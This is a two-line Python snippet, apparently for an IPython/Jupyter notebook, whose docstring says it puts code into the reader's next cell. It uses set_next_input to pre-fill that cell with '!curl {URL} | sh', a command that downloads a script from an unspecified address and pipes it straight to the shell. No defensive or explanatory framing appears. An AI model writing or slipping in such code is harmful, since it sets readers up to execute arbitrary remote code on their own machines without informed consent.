"""Code put into the reader's next cell."""

get_ipython().set_next_input(f"!curl {URL} | sh", replace=False)
